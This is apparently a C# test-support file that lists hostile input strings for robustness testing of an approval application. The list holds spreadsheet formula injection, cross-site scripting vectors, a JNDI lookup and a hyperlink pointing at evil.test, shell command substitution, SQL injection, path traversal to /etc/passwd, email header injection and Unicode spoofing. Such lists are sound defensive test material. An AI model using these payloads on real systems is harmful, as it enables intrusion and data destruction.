using System.Text.Json;
using ApprovalCloud.Tests.Support;

namespace ApprovalCloud.Tests.Hostile;

/// <summary>What somebody types who means no good, or whose keyboard is not ours.</summary>
internal static class Naughty
{
    /// <summary>An element of this name on a page, or whatever holds it in an attribute that runs, was typed by somebody.</summary>
    public const string Marker = "app-naughty";

    private const string Run = "appNaughty()";

    /// <summary>Can be kept to the letter.</summary>
    public static readonly IReadOnlyList<string> Words =
    [
        "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://evil.test\")", "$=SUM(1)", "＝1+1", "|calc",
        $"<{Marker}>", $"</textarea></title></select><{Marker}>", $"\"><{Marker} onmouseover={Run} x=\"", $"'><{Marker} x='", $"--><{Marker}>", $"]]><{Marker}>",
        $"</script><{Marker}>", $"<img src=x onerror={Run}>", $"<svg/onload={Run}>", $"\" onfocus={Run} autofocus x=\"", $"javascript:{Run}", $"&lt;{Marker}&gt;",
        $"&#60;{Marker}&#62;", $"%3C{Marker}%3E", $"\\u003c{Marker}\\u003e", $"<{Marker}", "@(1+1) @Model {{ 1 }} <%= 1 %>", "`${1}`",
        "{0}", "{9} {", "} {{0}", "%n%s%x%d", "{Message} {@Error}", "${jndi:ldap://evil.test/a}", "$(id) `id` ; id", "'; DROP TABLE applications; --", "\" OR 1=1 --", "\\",
        "../../../../etc/passwd", "..\\..\\win.ini", "file:///etc/passwd", "//evil.test/%2e%2e/",
        "x\r\nBcc: victim@example.test", "x\r\n\r\nSubject: no\r\n", "x\r\n.\r\nQUIT", "[12:00:00 ERR] forged\n[12:00:00 ERR] forged",
        "\u202Etxt.exe\u202C", "\u200B\u200Dzero", "a" + new string('\u0301', 60), "𠮷𡋾😀👨‍👩‍👧‍👦", "\u115F\u3164\uFFA0", "\uFEFFbom", "\uFFFE\uFFFF\uFDD0", "\u2028\u2029", "İıſßﷺ", "null", "NaN",
        "http://evil.test/?a=1&b=2#c", new string('W', 90),
    ];

    /// <summary>Cannot be kept: no database, page and document could all hold it.</summary>
    public static readonly IReadOnlyList<string> Unstorable = ["a\0b", "\u001b[31mred\u001b]0;title\u0007", "a\u0008\u0001b", "\u0085\u009b31m", "\ud800", "a\udc00b"];

    /// <summary>As many as fit, one a line, beginning with another one each time; the whole list is used up again and again.</summary>
    public static string Filling(int longest, ref int place)
    {
        var words = "";
        for (var count = 0; count < Words.Count; count++)
        {
            var next = Words[place % Words.Count];
            if (words.Length + next.Length + 1 > longest)
                break;
            words += words.Length == 0 ? next : $"\n{next}";
            place++;
        }

        return words;
    }

    /// <summary>The big list of naughty strings (MIT), from npm.</summary>
    public static IReadOnlyList<string> BigList()
    {
        Servers.Require("blns");
        return JsonSerializer.Deserialize<List<string>>(File.ReadAllText(Servers.Program("blns", "resources", "blns.json")!))!;
    }
}
